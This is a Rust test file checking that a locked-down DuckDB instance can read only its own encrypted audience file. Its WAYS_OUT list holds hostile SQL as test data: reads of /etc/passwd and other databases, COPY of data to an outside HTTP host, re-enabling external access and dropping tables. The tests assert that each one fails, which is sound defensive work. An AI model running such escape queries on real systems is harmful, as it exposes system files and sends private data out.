//! What a locked-down instance can still do: read the files it is for, and nothing else.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "tests")]
use super::*;
use std::{fs, net::TcpListener};
use zeroize::Zeroizing;

const KEY: &str = "6b6579206b6579206b6579206b6579206b6579206b6579206b6579206b657921";

/// A folder with an encrypted audience `person = 7`, a second one that no query is for, and the engine.
fn engine() -> (tempfile::TempDir, DuckDb) {
    let folder = tempfile::tempdir().unwrap();
    let extension = Path::new(env!("CAMERATA_DUCKDB_DIR")).join("httpfs.duckdb_extension");
    let limits = Limits { threads: 1, memory_mib: 256, deadline: Duration::from_secs(60) };
    let engine = DuckDb::new(extension, limits);
    for name in ["mine", "other"] {
        let file = folder.path().join(format!("{name}.db"));
        let writing = engine.open_writing(&[("version", &file, KEY)]).unwrap();
        writing.run("CREATE TABLE version.email AS SELECT CAST(7 AS BIGINT) AS person").unwrap();
    }
    (folder, engine)
}

fn attached(folder: &Path) -> Vec<Attached> {
    let key = Zeroizing::new(KEY.to_owned());
    vec![Attached { name: "audience_0".into(), file: folder.join("mine.db"), key }]
}

fn counted(engine: &DuckDb, attached: &[Attached]) -> Result<Vec<(i64, i64)>, EngineError> {
    let sql = "SELECT CAST(0 AS BIGINT), CAST(0 AS BIGINT), count(*) FROM audience_0.main.email";
    engine.prepare(attached, sql, CellSpace::Blocks(vec![1]))?.run()
}

/// Ways out of the instance; `FOLDER` is where the files are, `HOST` a server that must hear nothing.
const WAYS_OUT: &[&str] = &[
    "SELECT 0, count(*) FROM read_csv('/etc/passwd')",
    "SELECT 0, count(*) FROM read_text('FOLDER/*')",
    "SELECT 0, count(*) FROM read_blob('FOLDER/other.db')",
    "SELECT 0, count(*) FROM glob('FOLDER/*')",
    "SELECT 0, count(*) FROM '/etc/passwd'",
    "SELECT 0, count(*) FROM read_duckdb('FOLDER/other.db', table_name = 'email')",
    "SELECT 0, count(*) FROM read_csv('http://HOST/steal.csv')",
    "SELECT 0, count(*) FROM read_parquet('s3://bucket/steal.parquet')",
    "SELECT 0, count(*) FROM 'http://HOST/steal.csv'",
    "COPY (SELECT * FROM audience_0.main.email) TO 'FOLDER/stolen.csv'",
    "COPY (SELECT * FROM audience_0.main.email) TO 'http://HOST/stolen.csv'",
    "EXPORT DATABASE 'FOLDER/stolen'",
    "ATTACH 'FOLDER/other.db' AS other (ENCRYPTION_KEY 'KEY')",
    "ATTACH 'FOLDER/new.db' AS new",
    "ATTACH 'http://HOST/x.db' AS remote",
    "INSTALL json",
    "LOAD 'FOLDER/mine.db'",
    "CREATE PERSISTENT SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')",
    "SET enable_external_access = true",
    "SET lock_configuration = false",
    "SET memory_limit = '100GB'",
    "SET allowed_directories = ['/']",
    "RESET enable_external_access",
    "INSERT INTO audience_0.main.email VALUES (8)",
    "DROP TABLE audience_0.main.email",
];

#[test]
fn a_query_reads_its_own_files_and_has_no_way_out() {
    let (folder, engine) = engine();
    let attached = attached(folder.path());
    assert_eq!(counted(&engine, &attached).unwrap(), [(0, 1)]);
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    server.set_nonblocking(true).unwrap();
    let host = server.local_addr().unwrap().to_string();
    let before: Vec<_> = names(folder.path());
    for way in WAYS_OUT {
        let folder = folder.path().display().to_string();
        let sql = way.replace("FOLDER", &folder).replace("HOST", &host).replace("KEY 'KEY'", &format!("KEY '{KEY}'"));
        let connection = engine.open_reading(&attached).unwrap();
        assert!(connection.execute_batch(&sql).is_err(), "{sql}");
        let next = connection.query_row("SELECT count(*) FROM audience_0.main.email", [], |row| row.get::<_, i64>(0));
        assert_eq!(next.unwrap(), 1, "after {sql}");
    }
    assert!(server.accept().is_err(), "something called out");
    assert_eq!(names(folder.path()), before, "something was written");
}

fn names(folder: &Path) -> Vec<String> {
    let mut names: Vec<_> =
        fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    names.sort();
    names
}

#[test]
fn an_instance_made_ahead_knows_nothing_of_the_query_before() {
    let (folder, engine) = engine();
    let attached = attached(folder.path());
    for _ in 0..5 {
        let connection = engine.open_reading(&attached).unwrap();
        let left = connection
            .query_row("SELECT count(*) FROM duckdb_tables() WHERE temporary", [], |row| row.get::<_, i64>(0));
        assert_eq!(left.unwrap(), 0);
        let databases = "SELECT count(*) FROM duckdb_databases() WHERE NOT internal AND database_name <> 'memory'";
        assert_eq!(connection.query_row(databases, [], |row| row.get::<_, i64>(0)).unwrap(), 1);
        connection.execute_batch("CREATE TEMP TABLE kept AS SELECT * FROM audience_0.main.email").unwrap();
    }
}

#[test]
fn a_wrong_key_opens_nothing() {
    let (folder, engine) = engine();
    let mut attached = attached(folder.path());
    attached[0].key = Zeroizing::new(KEY.replace('6', "7"));
    assert_eq!(counted(&engine, &attached).unwrap_err().fault, EngineFault::Unreadable);
}
